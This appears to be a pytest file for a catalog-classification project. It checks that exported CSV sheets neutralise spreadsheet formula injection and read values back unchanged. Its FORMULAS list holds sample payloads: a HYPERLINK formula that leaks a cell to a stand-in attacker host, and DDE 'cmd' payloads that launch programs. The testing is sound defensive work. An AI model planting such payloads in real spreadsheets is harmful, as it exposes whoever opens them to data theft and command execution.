"""No cell of a sheet that people open is a formula, and what is read back is what was written."""

import csv
import io
import json
from dataclasses import replace

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from catalog.product_files import write_products
from catalog.products import Products, read_labels, read_products
from catalog.schema import PRESETS
from catalog.sheets import SheetWriter, is_sheet, restored
from catalog.tables import read_table
from catalog.taxonomy import Taxonomy
from classify.ask import ask
from classify.job import Job
from classify.run import Run
from classify.strategies.rag import RagOptions
from postprocess.files import snap_file
from tests.classify import conftest as fixtures

_tune_quickly, _draw_nothing = fixtures._tune_quickly, fixtures._draw_nothing
SCHEMA = PRESETS["indoml"]
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\0=1+1",
    "\uff1d1+1",
    "-chicken",
    "'=1+1",
    "''@x",
]
NUMBERS = ["-5", "+3.20", "-1,234.50", "-2e-7", "-15%", "0"]
ORDINARY = ["milk 1l", "a-b", "5 + 3", "it's", "'n' roll", "", "e@x.org"]
TEXT = st.text(st.characters(codec=None) | st.sampled_from("'=+-@\t\r\n0 "), max_size=12)


def written(*rows) -> str:
    stream = io.StringIO()
    for row in rows:
        SheetWriter(stream).write(row)
    return stream.getvalue()


def is_formula(cell: str) -> bool:
    seen = cell.lstrip(" \0\ufeff\u200b")
    return seen[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") and cell not in NUMBERS


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_a_sheet(text: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(written([text]), newline=""))
    assert cell == f"'{text}"
    assert restored(cell) == text


@pytest.mark.parametrize("text", NUMBERS + ORDINARY)
def test_numbers_and_ordinary_text_are_untouched(text: str) -> None:
    assert written([text, "x"]) == f'"{text}",x\n' if "," in text else f"{text},x\n"
    assert written([-5, -1.5]) == "-5,-1.5\n"
    assert restored(text) == text


@example("'=", "''")
@given(TEXT, TEXT)
def test_it_reads_back(one: str, other: str) -> None:
    (cells,) = csv.reader(io.StringIO(written([one, other]), newline=""))
    assert [restored(cell) for cell in cells] == [one, other]


def test_of_files_from_elsewhere_nothing_is_taken_off(tmp_path) -> None:
    file = tmp_path / "own.csv"
    file.write_text("id,description\n1,'=x\n")
    assert [row.text("description") for row in read_table(file)] == ["'=x"]
    assert not is_sheet(["id", "description", "confidence"])


def test_rows_to_label_carry_no_formula_and_teach_the_exact_text(shop, tmp_path) -> None:
    texts = [*FORMULAS, *NUMBERS, *ORDINARY, "plain"]
    prices = np.array([float(n) for n in range(len(texts))])
    products = Products([f"={n}" for n in range(len(texts))], {"description": texts}, ["@shop"] * len(texts), prices)
    write_products(tmp_path / "in", "test", [products], SCHEMA)
    train = replace(shop.train.take(range(60)), labels=[("=sum", "-group", "+module", "@brand")] * 60)
    write_products(tmp_path / "in", "train", [train], SCHEMA)
    options = RagOptions().model_dump()
    place = tmp_path / "in" / "train.features"
    job = Job("rag", "neighbours", SCHEMA, options, 0, tmp_path / "in" / "test.features", (place,))
    run = Run.start(tmp_path / "run", job)
    run.execute()
    ask(run, 100, tmp_path / "ask.csv")
    with open(tmp_path / "ask.csv", newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert not any(is_formula(cell) for row in rows for cell in row.values())
    assert {row["predicted"] for row in rows} == {"'=sum > -group > +module > @brand"}
    for row in rows:
        row.update(zip(SCHEMA.levels, ("'=sum", "g", "m", "'@b"), strict=True))
    with open(tmp_path / "ask.csv", "w", newline="", encoding="utf-8") as stream:
        writer = csv.DictWriter(stream, rows[0].keys(), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
    back = read_products(tmp_path / "ask.csv", SCHEMA, labels=True)
    assert dict(zip(back.ids, back.texts, strict=True)) == dict(zip(products.ids, texts, strict=True))
    assert set(back.retailers) == {"@shop"}
    assert set(back.require_labels()) == {("=sum", "g", "m", "@b")}


def test_predictions_and_changes_as_sheets(tmp_path) -> None:
    path = ("=sum", "-group", "+module", "@brand")
    answers = tmp_path / "answers.jsonl"
    said = ["__".join(path), "=summ__-group__+module__@brand", "=cmd|' /C calc'!A0"]
    answers.write_text(
        "".join(json.dumps({"indoml_id": f"={n}", "answer": text}) + "\n" for n, text in enumerate(said))
    )
    taxonomy = Taxonomy(SCHEMA.levels, {path: 1})
    for out, changes in (("p.csv", "c.csv"), ("p.jsonl", "c.jsonl")):
        snap_file(answers, taxonomy, tmp_path / out, SCHEMA, changes=tmp_path / changes)
    for name in ("p.csv", "c.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert len(cells) > 12
        assert not any(map(is_formula, cells))
    assert read_labels(tmp_path / "p.csv", SCHEMA) == read_labels(tmp_path / "p.jsonl", SCHEMA)
    assert '"=sum"' in (tmp_path / "p.jsonl").read_text()
